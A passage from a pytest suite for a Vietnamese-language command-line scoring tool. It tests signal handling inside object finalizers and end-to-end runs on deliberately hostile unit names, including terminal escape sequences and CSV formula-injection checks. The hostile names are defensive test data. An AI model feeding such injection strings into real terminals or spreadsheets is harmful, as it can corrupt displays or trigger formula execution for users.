    was raised inside it, where Python only prints what is raised: the run went on to the end, exit 0,
    with ``Exception ignored … chiso766.cli.Terminated`` on stderr (CI, 04/12/2026). It now stops the
    command in its own code, as any other stop: one line, its exit status, no traceback; Ctrl+C too."""
    code = (
        "import os, signal, sys, time\n"
        "import chiso766.cli as c\n"
        "class Freed:\n"
        "    def __del__(self):\n"
        f"        os.kill(os.getpid(), signal.{name})\n"
        "        time.sleep(0.2)\n"  # the handler runs here, inside the finalizer
        "def work(args):\n"
        "    Freed()\n"
        "    time.sleep(30)\n"  # the run that went on
        "    return 0\n"
        "c._cmd_score = work\n"
        "sys.argv = ['chiso766', 'score', 'p.yaml']\n"
        "c.entry()\n"
    )
    started = time.monotonic()
    done = subprocess.run([PYTHON, "-c", code], capture_output=True, timeout=60,
                          env={**os.environ, "PYTHONPATH": str(ROOT / "lib")})
    assert done.returncode == status, done.stderr
    assert done.stderr.decode("utf-8") == f"Lỗi: {said}\n"
    assert time.monotonic() - started < 20


# a whole run with hostile unit names ----------------------------------------------------------------------


@pytest.mark.slow
def test_a_run_with_hostile_unit_names(tmp_path, capsys):
    names = [*HOSTILE[:4], DOLLAR, "Sở $\\frac{1$ Một", "Sở \x1b[31mĐỏ\x1b[0m\x07"]
    scores = "unit_name,tier,total\n" + "".join(
        f'"{name.replace(chr(34), chr(34) * 2)}",so,{50 + i}\n' for i, name in enumerate(names)
    )
    params = write_params(tmp_path / "p", scores)
    code, out, err = cli_run(capsys, "run", params, "--out", tmp_path / "out")
    assert code == 0, err
    units = (tmp_path / "out" / "tables" / "units.csv").read_text(encoding="utf-8-sig")
    for name in HOSTILE[:4]:
        assert "\n,\"'" + name.replace('"', '""') in units or "\n,'" + name in units
    svgs = "".join(p.read_text(encoding="utf-8") for p in (tmp_path / "out" / "figures").glob("*.svg"))
    assert "Xã $x^2$" in svgs
    code, out, err = cli_run(capsys, "explain", HOSTILE[1], tmp_path / "out")
    assert code == 0 and out.startswith(HOSTILE[1]), err
